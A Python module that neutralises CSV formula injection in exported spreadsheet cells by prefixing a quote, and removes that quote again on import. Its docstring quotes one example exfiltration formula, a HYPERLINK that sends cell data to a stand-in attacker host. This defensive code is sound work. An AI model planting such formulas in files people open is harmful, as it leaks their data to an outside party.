"""Text cells made safe to open in a spreadsheet, and read back as they were written.

Why: Excel, LibreOffice Calc and Google Sheets read a CSV cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and a leading tab or carriage return can hide such a start. A note
typed in Slack as ``=HYPERLINK("http://evil.example/?d="&A1,"x")`` would become a live link in
the file a manager opens, able to send the sheet's data elsewhere, or worse. This is "CSV
Injection" (also called formula injection) in OWASP's words, and their advice is what is done
here: such a cell gets a single quote ``'`` in front, so a spreadsheet shows it as text.

Only text people typed or named is neutralised (``bot.transfer.export.TEXT_COLUMNS``): numbers,
dates and instants the app writes itself are left alone, so a spreadsheet still sees them as
numbers and dates.

The quote must come off again when ``prodbot import`` reads the file, and only the quote this
module added. The rule, which makes ``restore(neutralise(text)) == text`` for every text:

- ``neutralise`` puts one ``'`` in front of a text that starts with any number of quotes (none
  included) followed by a trigger character: ``=x`` becomes ``'=x``, and ``'=x`` (someone really
  typed the quote) becomes ``''=x``. Anything else is left as it is: ``'tis`` stays ``'tis``.
- ``restore`` takes one ``'`` off a text of that same shape with at least one quote: ``'=x``
  becomes ``=x`` and ``''=x`` becomes ``'=x``; ``'tis`` is again left as it is.

A neutralised text always has that shape, so ``restore`` undoes it; a text ``neutralise`` left
alone never has it (else it would have been neutralised), so ``restore`` leaves it alone too.
"""

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _quotes_then_trigger(text: str) -> bool:
    """Whether ``text`` is any number of quotes followed by a trigger character."""
    return text.lstrip(QUOTE).startswith(TRIGGERS)


def neutralise(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows as text, never runs as a formula."""
    return QUOTE + text if _quotes_then_trigger(text) else text


def restore(cell: str) -> str:
    """The text ``neutralise`` was given for ``cell``."""
    if cell.startswith(QUOTE) and _quotes_then_trigger(cell):
        return cell[1:]
    return cell
